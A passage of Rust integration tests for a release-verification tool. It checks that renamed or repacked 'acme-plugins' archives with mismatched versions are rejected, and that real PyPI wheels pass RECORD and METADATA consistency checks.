    let repo = Repo::examples();
    let (linux, _) = nightly(&repo);
    let folder = format!("acme-plugins-{NIGHTLY}-linux");
    let elsewhere = tempfile::tempdir().unwrap();

    // Renamed: the archive says another version than its folder.
    let renamed = elsewhere.path().join("acme-plugins-9.9.9-linux.tar.bz2");
    fs::copy(&linux, &renamed).unwrap();
    let run = repo.xtask(&["verify", &renamed.to_string_lossy()]);
    run.assert_code(1);
    let expected = format!("the archive is named acme-plugins-9.9.9-linux.tar.bz2, but its folder is {folder}");
    assert!(run.stdout.contains(&expected), "{expected:?} in\n{}", run.stdout);

    // Repacked with a manifest.json that claims another version.
    let (out, dir) = unpack(&linux);
    let path = dir.join("manifest.json");
    let text = fs::read_to_string(&path).unwrap();
    fs::write(
        &path,
        text.replacen(&format!("\"version\": \"{NIGHTLY}\""), "\"version\": \"9.9.9\"", 1),
    )
    .unwrap();
    let repacked = elsewhere.path().join(format!("{folder}.tar.bz2"));
    run_ok(
        Command::new("tar")
            .arg("cjf")
            .arg(&repacked)
            .arg("-C")
            .arg(out.path())
            .arg(&folder),
    );
    let run = repo.xtask(&["verify", &repacked.to_string_lossy()]);
    run.assert_code(1);
    let expected = format!(
        "its folder is {folder}, but manifest.json says it is acme-plugins 9.9.9 for linux, whose folder is acme-plugins-9.9.9-linux"
    );
    assert!(run.stdout.contains(&expected), "{expected:?} in\n{}", run.stdout);
}

/// Real wheels as PyPI serves them (pure, native, abi3, Rust-built, dotted old-style names,
/// quoted RECORD lines) pass the wheel proofs: their RECORD, METADATA and file names agree.
#[test]
fn real_wheels_from_pypi_pass_the_wheel_proofs() {
    let repo = Repo::examples();
    let dir = tempfile::tempdir().unwrap();
    let bundle = dir.path().join("bundle");
    fs::create_dir(&bundle).unwrap();
    let mut files = Vec::new();
    for name in list_dir(&tool_wheels()).into_iter().filter(|f| f.ends_with(".whl")) {
        let bytes = fs::read(tool_wheels().join(&name)).unwrap();
        fs::write(bundle.join(&name), &bytes).unwrap();
        let mut parts = name.splitn(3, '-');
        files.push(serde_json::json!({
            "file": name,
            "name": parts.next().unwrap(),
            "version": parts.next().unwrap(),
            "sha256": sha2::Sha256::digest(&bytes).iter().map(|b| format!("{b:02x}")).collect::<String>(),
            "size": bytes.len(),
            "origin": "public",
        }));
    }
    assert!(files.len() > 20, "the cached tool wheels: {files:?}");
    let manifest = serde_json::json!({
        "release": "acme-plugins", "version": "1.0.0", "platform": "linux", "commit": "0", "files": files,
    });
    fs::write(bundle.join("manifest.json"), manifest.to_string()).unwrap();

    let run = repo.xtask(&["verify", &bundle.to_string_lossy()]);
    let proven = format!("wheel contents: {n} of {n} match their RECORD", n = files.len());
    assert!(run.stdout.contains(&proven), "{proven:?} in\n{}", run.stdout);
    assert!(
        !run.stdout
            .lines()
            .any(|l| l.contains("FAIL") && (l.contains("RECORD") || l.contains("METADATA"))),
        "{}",
        run.stdout
    );
}
